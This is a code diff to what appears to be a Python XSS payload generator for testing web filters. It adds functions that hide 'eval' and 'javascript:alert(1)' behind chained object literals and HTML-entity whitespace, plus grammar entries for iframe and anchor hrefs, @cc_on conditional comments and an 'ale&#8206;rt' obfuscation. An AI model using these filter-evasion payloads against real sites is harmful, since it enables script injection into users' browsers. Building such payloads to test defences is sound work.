@@ -98,6 +98,55 @@ def _use(rng: Random, name: str) -> str:
     return f"{name}({argument})"
 
 
+def object_chain(rng: Random) -> str:
+    """Ternaries in object literals that add up to a tell-tale name, one letter pair at a time."""
+    target = ("eval", "alert(1)", "location.hash", "name", "eval(name)")[int(rng.random() * 5)]
+    letters = "zyxwvutsrqponm"
+    lines, before, at = [], "", len(target)
+    for letter in letters:
+        if at <= 0:
+            break
+        piece = target[max(0, at - 1 - int(rng.random() * 3)) : at]
+        at -= len(piece)
+        a, b = int(rng.random() * 5), 5 + int(rng.random() * 5)
+        value = f"'{piece}'" + (f"+{before}.{before}" if before else "")
+        form = int(rng.random() * 3)
+        if form == 0:
+            lines.append(f"{{{letter}=({a}=={b})?{a}:{{{letter}:{value}}}}}")
+        elif form == 1:
+            lines.append(f"{letter}=!{a}?{{{letter}:{value}}}:{b};")
+        else:
+            lines.append(f"{letter} = {{{letter}: {value}}};")
+        before = letter
+    gap = ("", "\n", " ", ";")[int(rng.random() * 4)]
+    return gap.join([*lines, _use(rng, f"{before}.{before}")])
+
+
+def entity_gaps(rng: Random) -> str:
+    """A script URL with references to white space between its letters."""
+    gaps = (
+        "&NewLine;",
+        "&Tab;",
+        "&#9;",
+        "&#10;",
+        "&#13;",
+        "&#x0A;",
+        "&#x09",
+        "&#8206;",
+        "\t",
+        "\n",
+    )
+    text = "javascript:alert(1)"
+    return "".join(
+        [
+            char + "".join([gaps[int(rng.random() * 10)] for _ in range(int(rng.random() * 3))])
+            if index < 11
+            else char
+            for index, char in enumerate(text)
+        ]
+    )
+
+
 _G = Grammar(
     r"""
 dur = 1s¦0.1s¦2s¦1ms¦10s
@@ -185,6 +234,9 @@ names:
   ‹az›[<svg/onload=‹call›>]
   ‹az›"‹ev›="‹call›"style="position:absolute;width:100%;height:100%;top:0;left:0;"‹az›
 sized:
+  ‹gapped›
+  <iframe src="‹gapped›">
+  <a href="‹gapped›">‹word›</a>
   2×‹word›"‹ev›="‹call›"style="position:absolute;‹top:0;left:0;¦width:100%;height:100%;top:0;left:0;›"‹az›
   ‹word›" ‹ev›="‹call›" style="position:fixed;top:0;left:0;width:9999px;height:9999px;" ‹az›="
   ‹word›" style=animation-name:rotation onanimationstart=‹call› ‹at0›
@@ -199,6 +251,13 @@ sized:
 at0 = x="¦//¦id=x¦y='
 assembled:
   4×‹code›
+  2×‹objects›
+  @cc_on ‹call›
+  @if(@_‹az›)@else ‹call› @end
+  /*@cc_on ‹call› @*/
+  location.assign(‹arg›)
+  -parent(‹n›)
+  ale&#8206;rt(‹n›)
   <script>‹code›</script>
   ';‹code›//
   javascript:‹code›
@@ -213,7 +272,7 @@ assembled:
   ‹c›=0?eval:0,‹c›=1?eval:0
 """,
     XSS,
-    {"code": assembled_code},
+    {"code": assembled_code, "objects": object_chain, "gapped": entity_gaps},
 )
 _ALL = (VALUE, COOKIE, HEADER)
 KINDS = (
